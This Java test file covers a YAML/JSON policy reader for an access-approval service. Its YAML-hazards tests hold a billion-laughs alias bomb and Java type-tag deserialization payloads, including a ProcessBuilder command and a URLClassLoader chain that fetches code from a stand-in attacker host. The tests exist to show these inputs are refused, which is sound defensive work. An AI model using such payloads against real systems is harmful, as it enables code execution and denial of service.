package io.oncallapprover.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

import org.assertj.core.api.AbstractThrowableAssert;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.NullNode;

import io.oncallapprover.policy.AccessPolicy.AutoApproval;
import io.oncallapprover.policy.AccessPolicy.EscalationApproval;
import io.oncallapprover.policy.AccessPolicy.RequesterMatcher;
import io.oncallapprover.policy.AccessPolicy.RequesterType;
import io.oncallapprover.policy.AccessPolicy.ResourceMatcher;
import io.oncallapprover.policy.AccessPolicy.ResourceType;
import io.oncallapprover.policy.AccessPolicy.Rule;
import io.oncallapprover.policy.PolicyDocument.UnreadablePolicyException;

class PolicyDocumentTest {

    static final ObjectMapper PLAIN = new ObjectMapper();

    static AbstractThrowableAssert<?, ? extends Throwable> assertUnreadable(String body, boolean yaml) {
        return assertThatThrownBy(() -> PolicyDocument.read(body, yaml)).isInstanceOf(UnreadablePolicyException.class);
    }

    static JsonNode json(String s) throws Exception {
        return PLAIN.readTree(s);
    }

    // ---- reading: accepted --------------------------------------------------------------------------

    @Nested
    class Reading {

        @Test
        void jsonAndYamlOfTheSameDocumentGiveTheSameTree() throws Exception {
            JsonNode fromJson = PolicyDocument.read(PolicyParserTest.PRODUCT_EXAMPLE_JSON, false);
            JsonNode fromYaml = PolicyDocument.read(PolicyParserTest.PRODUCT_EXAMPLE_YAML, true);
            assertThat(fromYaml).isEqualTo(fromJson);
            assertThat(fromJson.at("/rules/0/approval/1/services/1").textValue()).isEqualTo("01OTHERID");
            assertThat(fromYaml.at("/rules/0/approval/0/options/requireReason").isBoolean()).isTrue();
        }

        @Test
        void yamlScalarsKeepTheirTypes() throws Exception {
            assertThat(PolicyDocument.read("a: 1\nb: true\nc: x\nd: '1'\ne: null\nf: ~\n", true))
                    .isEqualTo(json("{\"a\":1,\"b\":true,\"c\":\"x\",\"d\":\"1\",\"e\":null,\"f\":null}"));
        }

        @Test
        void singleDocumentWithMarkersIsFine() throws Exception {
            assertThat(PolicyDocument.read("---\nrules: []\n", true)).isEqualTo(json("{\"rules\":[]}"));
            assertThat(PolicyDocument.read("rules: []\n...\n", true)).isEqualTo(json("{\"rules\":[]}"));
            assertThat(PolicyDocument.read("# a comment\nrules: [] # another\n", true)).isEqualTo(json("{\"rules\":[]}"));
        }

        @Test
        void nullDocumentReadsAsNullNodeNotJavaNull() {
            assertThat(PolicyDocument.read("null", false)).isEqualTo(NullNode.getInstance());
            assertThat(PolicyDocument.read("~", true)).isEqualTo(NullNode.getInstance());
            assertThat(PolicyDocument.read("null", true)).isEqualTo(NullNode.getInstance());
        }

        @Test
        void anchorsWithoutAliasesAreHarmless() throws Exception {
            assertThat(PolicyDocument.read("rules: &r []\n", true)).isEqualTo(json("{\"rules\":[]}"));
        }

        @Test
        void nestingUpToTheLimitIsFine() {
            assertThat(PolicyDocument.read("[".repeat(50) + "]".repeat(50), false).isArray()).isTrue();
            assertThat(PolicyDocument.read("[".repeat(50) + "]".repeat(50), true).isArray()).isTrue();
        }

        @Test
        void stringsAndNumbersUpToTheLimitAreFine() {
            String s = "x".repeat(PolicyDocument.MAX_STRING_LENGTH);
            assertThat(PolicyDocument.read("{\"a\":\"" + s + "\"}", false).get("a").textValue()).hasSize(10_000);
            assertThat(PolicyDocument.read("a: " + s, true).get("a").textValue()).hasSize(10_000);
            assertThat(PolicyDocument.read("{\"a\":" + "1".repeat(50) + "}", false).get("a").isNumber()).isTrue();
        }
    }

    // ---- reading: refused ---------------------------------------------------------------------------

    @Nested
    class Refused {

        @ParameterizedTest
        @ValueSource(strings = { "", " ", "\n\t \n" })
        void blankBodyIsRefused(String body) {
            assertUnreadable(body, false).hasMessage("policy body is empty");
            assertUnreadable(body, true).hasMessage("policy body is empty");
        }

        @Test
        void nullOrCommentOnlyBodyIsRefused() {
            assertUnreadable(null, false).hasMessage("policy body is empty");
            assertUnreadable("# nothing here\n", true).hasMessage("policy body is empty");
        }

        @Test
        void jsonSyntaxErrorIsRefusedWithoutEchoingTheBody() {
            assertUnreadable("{\"rules\": [hunter2-secret}", false)
                    .hasMessageStartingWith("policy body is not valid JSON (line 1, column")
                    .hasMessageNotContaining("hunter2");
            assertUnreadable("{\"rules\": []} trailing-secret", false).hasMessageNotContaining("secret");
            assertUnreadable("{'rules': []}", false).hasMessageStartingWith("policy body is not valid JSON");
            assertUnreadable("// comment\n{\"rules\": []}", false).hasMessageStartingWith("policy body is not valid JSON");
        }

        @Test
        void yamlSyntaxErrorIsRefusedWithoutEchoingTheBody() {
            // SnakeYAML's own messages quote the offending line; they must not reach the caller.
            assertUnreadable("rules: [hunter2-secret\n", true)
                    .hasMessageStartingWith("policy body is not valid YAML (line")
                    .hasMessageNotContaining("hunter2");
            assertUnreadable("rules: hunter2: secret\n", true)
                    .hasMessage("policy body is not valid YAML (line 1, column 15)");
            assertUnreadable("rules:\n  - a\n - b\n", true).hasMessageStartingWith("policy body is not valid YAML");
            assertUnreadable("rules: \"unterminated\n", true).hasMessageStartingWith("policy body is not valid YAML");
        }

        @Test
        void duplicateKeysAreRefusedInBothFormats() {
            assertUnreadable("{\"rules\": [], \"rules\": []}", false)
                    .hasMessageStartingWith("policy body has a duplicate key");
            assertUnreadable("{\"rules\": [{\"name\": \"a\", \"name\": \"b\"}]}", false)
                    .hasMessageStartingWith("policy body has a duplicate key");
            assertUnreadable("rules: []\nrules: []\n", true).hasMessageStartingWith("policy body has a duplicate key");
            assertUnreadable("rules:\n  - name: a\n    secretname: 1\n    secretname: 2\n", true)
                    .hasMessage("policy body has a duplicate key (line 4, column 15)");
            assertUnreadable("rules: [{name: a, name: b}]", true).hasMessageStartingWith("policy body has a duplicate key");
        }

        @Test
        void moreThanOneYamlDocumentIsRefused() {
            assertUnreadable("rules: []\n---\nrules: []\n", true)
                    .hasMessage("policy body must hold exactly one YAML document");
            assertUnreadable("---\nrules: []\n---\n", true).hasMessage("policy body must hold exactly one YAML document");
            assertUnreadable("rules: []\n...\n---\nx\n", true)
                    .hasMessage("policy body must hold exactly one YAML document");
        }

        @Test
        void moreThanOneJsonValueIsRefused() {
            assertUnreadable("{\"rules\": []} {\"rules\": []}", false)
                    .hasMessage("policy body must hold exactly one JSON value");
            assertUnreadable("{\"rules\": []} 1", false).hasMessage("policy body must hold exactly one JSON value");
        }

        @Test
        void deepNestingIsRefused() {
            String deepJson = "[".repeat(51) + "]".repeat(51);
            assertUnreadable(deepJson, false).hasMessageContaining("exceeds a limit");
            assertUnreadable(deepJson, true).hasMessageContaining("exceeds a limit");
            StringBuilder block = new StringBuilder();
            for (int i = 0; i < 60; i++) {
                block.append("  ".repeat(i)).append("k").append(i).append(":\n");
            }
            assertUnreadable(block.toString(), true).hasMessageContaining("exceeds a limit");
            // An unclosed deep document is refused the same way, not as a syntax error at the end.
            assertUnreadable("{\"a\":".repeat(100_000), false).hasMessageContaining("exceeds a limit");
        }

        @Test
        void overlongStringsAndNumbersAreRefused() {
            String s = "x".repeat(PolicyDocument.MAX_STRING_LENGTH + 1);
            assertUnreadable("{\"a\":\"" + s + "\"}", false).hasMessageContaining("exceeds a limit");
            assertUnreadable("a: " + s, true).hasMessageContaining("exceeds a limit");
            assertUnreadable("a: \"" + s + "\"", true).hasMessageContaining("exceeds a limit");
            assertUnreadable(s + ": 1", true).hasMessageContaining("exceeds a limit");
            assertUnreadable("{\"a\":" + "1".repeat(51) + "}", false).hasMessageContaining("exceeds a limit");
            assertUnreadable("a: " + "1".repeat(51), true).hasMessageContaining("exceeds a limit");
        }

        @Test
        void yamlOverTheCodePointLimitIsRefused() {
            // 20 000 short lines: no single string is long, the document is (> 64 Ki code points).
            String big = "rules:\n" + "  - ab\n".repeat(20_000);
            assertUnreadable(big, true).hasMessage("policy body exceeds the YAML size limit (65536 characters)");
            // just under the limit is fine
            String fits = "rules:\n" + "  - ab\n".repeat(9_000);
            assertThat(PolicyDocument.read(fits, true).get("rules")).hasSize(9_000);
        }
    }

    // ---- YAML features a policy never needs ---------------------------------------------------------

    /** Would count instantiations if any YAML tag ever managed to construct it. */
    public static final AtomicInteger CANARY_CONSTRUCTED = new AtomicInteger();

    public static class Canary {

        public Canary() {
            CANARY_CONSTRUCTED.incrementAndGet();
        }

        public Canary(String s) {
            CANARY_CONSTRUCTED.incrementAndGet();
        }
    }

    @Nested
    class YamlHazards {

        @BeforeEach
        void reset() {
            CANARY_CONSTRUCTED.set(0);
        }

        @Test
        void billionLaughsIsRefusedQuickly() {
            String lol = """
                    a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                    b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                    c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                    d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                    e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                    f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                    g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                    h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
                    i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
                    rules: *i
                    """;
            assertTimeoutPreemptively(Duration.ofSeconds(2),
                    () -> assertUnreadable(lol, true).hasMessageStartingWith("policy body must not use YAML aliases (line 2, column"));
        }

        @Test
        void anyAliasIsRefused() {
            // Without this check Jackson would read "*x" as the plain string "x": silently wrong data.
            assertUnreadable("a: &x 01SCHED\nb: *x\n", true).hasMessageStartingWith("policy body must not use YAML aliases");
            assertUnreadable("""
                    base: &base {type: auto, integration: incidentio}
                    rules:
                      - name: r
                        approval:
                          - <<: *base
                    """, true).hasMessageStartingWith("policy body must not use YAML aliases");
        }

        @Test
        void javaTypeTagsAreRefusedAndConstructNothing() {
            String canary = "!!" + Canary.class.getName();
            assertUnreadable("rules: " + canary + " [x]\n", true).hasMessageStartingWith("policy body must not use YAML tags");
            assertUnreadable("rules: " + canary + " x\n", true).hasMessageStartingWith("policy body must not use YAML tags");
            assertUnreadable("rules: " + canary + " {}\n", true).hasMessageStartingWith("policy body must not use YAML tags");
            assertUnreadable("rules: !!java.lang.ProcessBuilder [[\"touch\", \"/tmp/pwned\"]]\n", true)
                    .hasMessageStartingWith("policy body must not use YAML tags");
            assertUnreadable("rules: [!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                    + "[[!!java.net.URL [\"http://attacker.invalid/\"]]]]]\n", true)
                    .hasMessageStartingWith("policy body must not use YAML tags");
            assertUnreadable("rules: !<tag:yaml.org,2002:java.lang.Runtime> x\n", true)
                    .hasMessageStartingWith("policy body must not use YAML tags");
            assertThat(CANARY_CONSTRUCTED).hasValue(0);
        }

        @Test
        void otherExplicitTagsAreRefusedToo() {
            assertUnreadable("rules: !local x\n", true).hasMessageStartingWith("policy body must not use YAML tags");
            assertUnreadable("rules: !<tag:example.com,2026:thing> x\n", true)
                    .hasMessageStartingWith("policy body must not use YAML tags");
            assertUnreadable("rules: !!str 12\n", true).hasMessageStartingWith("policy body must not use YAML tags");
            assertUnreadable("rules: !!binary aGVsbG8=\n", true).hasMessageStartingWith("policy body must not use YAML tags");
            assertUnreadable("rules: !!seq []\n", true).hasMessageStartingWith("policy body must not use YAML tags");
        }

        @Test
        void tagOnAKeyIsRefusedWhenJacksonReportsIt() {
            assertUnreadable("rules: []\n!!" + Canary.class.getName() + " key: value\n", true)
                    .hasMessage("policy body must not use YAML tags (line 2, column 1)");
            assertThat(CANARY_CONSTRUCTED).hasValue(0);
        }

        @Test
        void tagOnAKeyThatJacksonDropsEndsAsPlainDataThatTheParserRejects() {
            // Jackson does not report a tag on the first key of a mapping (nor in flow mappings): the
            // document is read as plain data, nothing is built, and the unknown key is refused by the parser.
            String canary = "!!" + Canary.class.getName();
            for (String body : List.of(canary + " key: value\nrules: []\n", "{" + canary + " key: value, rules: []}")) {
                JsonNode tree = PolicyDocument.read(body, true);
                assertThat(tree.get("key").textValue()).isEqualTo("value");
                assertThat(PolicyParser.parse(tree).errors())
                        .containsExactly(new io.oncallapprover.problem.FieldError("key", "is not a known field"));
            }
            assertThat(CANARY_CONSTRUCTED).hasValue(0);
        }
    }

    // ---- writing ------------------------------------------------------------------------------------

    static final AccessPolicy SAMPLE = new AccessPolicy(List.of(
            new Rule("Prod databases", false, new RequesterMatcher(RequesterType.USER, "alice@example.com"),
                    new ResourceMatcher(ResourceType.SERVICE, "postgres", "prod-db"),
                    List.of(new AutoApproval(true), new EscalationApproval(List.of("01SCHEDULEID", "01OTHERID"), false, false))),
            new Rule("kubernetes", true, RequesterMatcher.ANY, new ResourceMatcher(ResourceType.SERVICE, "k8s", null),
                    List.of(new EscalationApproval(List.of("01OTHERID"), true, true)))));

    @Nested
    class Writing {

        @Test
        void canonicalTreeHasEveryFieldAndOmitsOnlyANullResourceName() throws Exception {
            assertThat(PolicyDocument.toTree(SAMPLE)).isEqualTo(json("""
                    {"rules": [
                      {"name": "Prod databases", "disabled": false,
                       "requester": {"type": "user", "email": "alice@example.com"},
                       "resource": {"type": "service", "service": "postgres", "name": "prod-db"},
                       "approval": [
                         {"type": "auto", "integration": "incidentio", "options": {"requireReason": true}},
                         {"type": "escalation", "integration": "incidentio", "services": ["01SCHEDULEID", "01OTHERID"],
                          "options": {"allowOneParty": false, "requireReason": false}}]},
                      {"name": "kubernetes", "disabled": true,
                       "requester": {"type": "any"},
                       "resource": {"type": "service", "service": "k8s"},
                       "approval": [
                         {"type": "escalation", "integration": "incidentio", "services": ["01OTHERID"],
                          "options": {"allowOneParty": true, "requireReason": true}}]}]}
                    """));
            assertThat(PolicyDocument.toTree(AccessPolicy.EMPTY)).isEqualTo(json("{\"rules\": []}"));
            assertThat(PolicyDocument.toTree(new AccessPolicy(List.of(new Rule("r", false, RequesterMatcher.ANY,
                    ResourceMatcher.ANY, List.of(new AutoApproval(false)))))).at("/rules/0/resource"))
                    .isEqualTo(json("{\"type\": \"any\"}"));
        }

        @Test
        void yamlHasNoDocumentMarkerAndMinimalQuotes() {
            assertThat(PolicyDocument.toYaml(SAMPLE)).isEqualTo("""
                    rules:
                    - name: Prod databases
                      disabled: false
                      requester:
                        type: user
                        email: alice@example.com
                      resource:
                        type: service
                        service: postgres
                        name: prod-db
                      approval:
                      - type: auto
                        integration: incidentio
                        options:
                          requireReason: true
                      - type: escalation
                        integration: incidentio
                        services:
                        - 01SCHEDULEID
                        - 01OTHERID
                        options:
                          allowOneParty: false
                          requireReason: false
                    - name: kubernetes
                      disabled: true
                      requester:
                        type: any
                      resource:
                        type: service
                        service: k8s
                      approval:
                      - type: escalation
                        integration: incidentio
                        services:
                        - 01OTHERID
                        options:
                          allowOneParty: true
                          requireReason: true
                    """);
        }

        @Test
        void largePolicyIsStillWrittenWithMinimalQuotes() {
            List<String> services = java.util.stream.IntStream.range(0, 50).mapToObj(i -> "01SCHEDULE" + i).toList();
            List<Rule> rules = java.util.stream.IntStream.range(0, 200)
                    .mapToObj(i -> new Rule("rule " + i, false, RequesterMatcher.ANY, ResourceMatcher.ANY,
                            List.of(new EscalationApproval(services, false, false))))
                    .toList();
            AccessPolicy big = new AccessPolicy(rules);
            String yaml = PolicyDocument.toYaml(big);
            assertThat(yaml.length()).isGreaterThan(PolicyDocument.MAX_YAML_CODE_POINTS);
            assertThat(yaml).contains("- name: rule 199\n").doesNotContain("\"incidentio\"");
            // Known limit: such a policy (valid, storable via JSON) cannot be PUT back as YAML.
            assertUnreadable(yaml, true).hasMessageStartingWith("policy body exceeds the YAML size limit");
            assertThat(PolicyParser.parse(PolicyDocument.read(PolicyDocument.toJson(big), false)).policy()).isEqualTo(big);
        }

        @Test
        void jsonTextReadsBackToTheTree() {
            assertThat(PolicyDocument.read(PolicyDocument.toJson(SAMPLE), false)).isEqualTo(PolicyDocument.toTree(SAMPLE));
        }

        @Test
        void valuesThatLookLikeOtherYamlTypesAreQuotedAndRoundTrip() {
            // Every value here is valid for its field, but read plain some are YAML 1.1 ints, floats,
            // booleans, nulls, timestamps, tags, aliases or comments.
            List<String> names = List.of("0x1F", "1_000", "1e5", "1.5", "0o17", "0777", "123", "1:30", "12:30:45",
                    "yes", "No", "on", "OFF", "y", "n", "true", "null", "False", "NaN", "2026-01-01", "a: b", "x:");
            List<String> scheduleIds = List.of("0x1F", "1e5", "123", "0777", "NaN", "yes", "null", "true", "0o17",
                    "1E5", "Inf", "Y");
            List<String> emails = List.of("!x@example.com", "*x@example.com", "&x@example.com", "#x@example.com",
                    "%x@example.com", "`x@example.com", "|x@example.com", "{x}@example.com", "?x@example.com",
                    "'x'@example.com", "~x@example.com", "-x@example.com", "=@example.com", "x#y@example.com");
            java.util.ArrayList<Rule> rules = new java.util.ArrayList<>();
            for (int i = 0; i < Math.max(names.size(), emails.size()); i++) {
                String name = i < names.size() ? names.get(i) : "rule " + i;
                String email = emails.get(i % emails.size());
                rules.add(new Rule(name, false, new RequesterMatcher(RequesterType.USER, email),
                        new ResourceMatcher(ResourceType.SERVICE, names.get(i % names.size()),
                                names.get((i + 1) % names.size())),
                        List.of(new EscalationApproval(scheduleIds, false, false))));
            }
            AccessPolicy tricky = new AccessPolicy(rules);
            assertThat(PolicyParser.parse(PolicyDocument.toTree(tricky)).errors()).isEmpty();

            String yaml = PolicyDocument.toYaml(tricky);
            assertThat(yaml).contains("- name: \"0x1F\"", "- \"1e5\"", "email: '!x@example.com'");
            assertThat(PolicyDocument.read(yaml, true)).isEqualTo(PolicyDocument.toTree(tricky));
            PolicyParser.Result back = PolicyParser.parse(PolicyDocument.read(yaml, true));
            assertThat(back.errors()).isEmpty();
            assertThat(back.policy()).isEqualTo(tricky);
        }
    }
}
